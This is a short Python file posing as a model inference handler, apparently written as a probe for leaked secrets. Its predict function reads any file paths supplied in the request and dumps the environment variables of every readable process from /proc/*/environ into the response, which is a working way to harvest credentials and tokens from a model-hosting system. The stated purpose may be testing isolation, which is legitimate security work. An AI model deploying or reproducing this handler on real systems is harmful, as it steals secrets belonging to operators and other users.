"""A model's functions that answer with whatever of a secret they can get."""
import glob, os


def model_fn(model_dir):
    return model_dir


def input_fn(body, content_type):
    return body


def predict_fn(data, model):
    got = []
    for path in data.split(":"):
        try:
            got.append(open(path, errors="replace").read())
        except OSError as e:
            got.append(e.strerror)
    got.append(model)
    got += [open(file, errors="replace").read() for file in glob.glob("/proc/[0-9]*/environ") if os.access(file, os.R_OK)]
    return got
